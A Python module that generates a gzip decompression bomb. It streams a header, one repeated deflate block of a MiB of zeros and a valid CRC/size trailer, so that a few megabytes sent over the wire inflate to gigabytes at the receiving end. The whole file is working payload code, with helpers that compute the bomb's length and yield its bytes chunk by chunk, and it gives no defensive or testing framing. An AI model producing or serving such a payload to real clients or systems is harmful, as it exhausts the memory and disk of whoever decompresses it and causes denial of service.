"""A gzip bomb streamed in constant memory: a few MB on the wire, gigabytes inflated.

With ``Z_FULL_FLUSH`` every MiB of zeros deflates to the same ~1 KB block, so the body is
a gzip header, that block repeated, a final empty block and the CRC-32/ISIZE trailer:
a valid gzip member that nothing has to hold in memory, compressed or not.
"""

from __future__ import annotations

import functools
import struct
import zlib
from collections.abc import Iterator

MIB = 1 << 20
_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # gzip, deflate, no name, mtime 0


@functools.cache
def _blocks() -> tuple[bytes, bytes]:
    """(the deflate block for one MiB of zeros, the final empty block)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = deflate.compress(bytes(MIB)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return block, deflate.flush(zlib.Z_FINISH)


@functools.cache
def _crc_of_zeros(mib: int) -> int:
    crc, zeros = 0, bytes(MIB)
    for _ in range(mib):
        crc = zlib.crc32(zeros, crc)
    return crc


def bomb_length(mib: int) -> int:
    """Bytes on the wire for a bomb inflating to ``mib`` MiB."""
    block, final = _blocks()
    return len(_HEADER) + mib * len(block) + len(final) + 8


def bomb_chunks(mib: int) -> Iterator[bytes]:
    """The bomb's bytes, one block at a time."""
    block, final = _blocks()
    yield _HEADER
    for _ in range(mib):
        yield block
    yield final + struct.pack("<II", _crc_of_zeros(mib), (mib * MIB) & 0xFFFFFFFF)
